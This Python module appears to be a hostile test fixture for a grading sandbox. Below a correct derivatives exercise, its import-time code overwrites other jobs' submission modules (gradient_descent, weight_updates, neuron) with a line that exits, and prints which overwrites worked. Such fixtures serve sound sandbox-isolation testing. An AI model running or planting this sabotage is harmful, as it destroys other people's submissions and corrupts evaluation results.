"""Hostile: rewrites the sandbox's copies of the *other* exercises.

The sandbox copies the submission once per exercise, all before the first
worker starts, into .../job<N>/submission (writable by the worker's user,
under a folder it may traverse but not list).  The worker's own folder is
its current directory, so the next jobs' paths are easy to guess: at import
this module overwrites every module in the next three job folders with code
that exits at import.  Prints what it managed.  derivatives itself is
correct."""

import os
import re

SABOTAGE = "raise SystemExit('sabotaged by derivatives.py')\n"

_here = os.getcwd()
_match = re.search(r"job(\d+)$", os.path.dirname(_here))
if _match:
    _n = int(_match.group(1))
    for _k in range(1, 4):
        _folder = os.path.join(os.path.dirname(os.path.dirname(_here)),
                               f"job{_n + _k}", "submission")
        for _module in ("gradient_descent", "weight_updates", "neuron"):
            try:
                with open(os.path.join(_folder, _module + ".py"), "w") as _fh:
                    _fh.write(SABOTAGE)
                print(f"overwrote job{_n + _k}/{_module}.py")
            except OSError as exc:
                print(f"could not overwrite job{_n + _k}/{_module}.py: {type(exc).__name__}")


def f(x):
    return 3 * x**3 - 2 * x**2 + x


def df(x):
    return 9 * x**2 - 4 * x + 1


def slope_at_2():
    return 29.0


def numerical_derivative(func, x, h=1e-5):
    return (func(x + h) - func(x - h)) / (2 * h)
